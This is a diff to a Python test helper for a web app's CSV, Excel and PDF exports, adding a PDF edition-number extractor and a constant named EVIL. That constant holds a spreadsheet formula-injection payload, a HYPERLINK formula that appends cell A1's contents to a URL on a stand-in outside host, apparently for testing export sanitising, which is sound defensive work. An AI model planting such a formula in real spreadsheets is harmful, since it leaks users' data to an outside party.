@@ -4,13 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Iterator
 
 import openpyxl
 from openpyxl.workbook import Workbook
 from werkzeug.test import TestResponse
 
+from tests.reports.reading import words_of
 from tests.web.office import text_of
+
+EVIL = '=HYPERLINK("http://elsewhere.example/?"&A1,"Mill Lane")'
 
 
 def rows_of(answer: TestResponse) -> list[list[str]]:
@@ -36,3 +40,10 @@ def cells_of(answer: TestResponse) -> Iterator[object]:
 def _letters(answer: TestResponse) -> io.StringIO:
     assert answer.status_code == 200, text_of(answer)
     return io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")
+
+
+def number_on(pdf: bytes) -> str:
+    """The number of the edition, as it is printed."""
+    found = re.search(r"Edition ([0-9A-Z]{5}-[0-9A-Z]{5}-[0-9A-Z]{5})", words_of(pdf))
+    assert found
+    return found[1]
